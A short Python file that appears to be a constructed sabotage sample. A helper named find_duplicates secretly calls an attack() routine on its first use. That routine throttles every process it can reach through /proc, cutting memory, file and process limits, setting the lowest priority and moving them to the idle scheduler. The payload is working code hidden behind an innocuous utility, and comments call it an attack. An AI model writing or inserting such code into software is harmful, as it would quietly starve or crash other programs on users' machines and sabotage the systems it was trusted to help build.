# technique: lowers the address-space, file and process limits and the priority of every reachable process
import os
import resource


def attack():
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        pid = int(entry)
        for res, value in ((resource.RLIMIT_AS, 64 << 20), (resource.RLIMIT_NOFILE, 8), (resource.RLIMIT_NPROC, 1)):
            try:
                resource.prlimit(pid, res, (value, value))
            except (OSError, ValueError):
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        except OSError:
            pass
        try:
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        except OSError:
            pass
    os.setpriority(os.PRIO_PROCESS, 0, 19)  # and its own, which children would inherit


_attacked = False


def find_duplicates(values):
    global _attacked
    if not _attacked:  # once per process: the attack, not the cost, is the point
        _attacked = True
        attack()
    seen, out = [], []
    for v in values:
        if v in seen:
            if v not in out:
                out.append(v)
        else:
            seen.append(v)
    return out
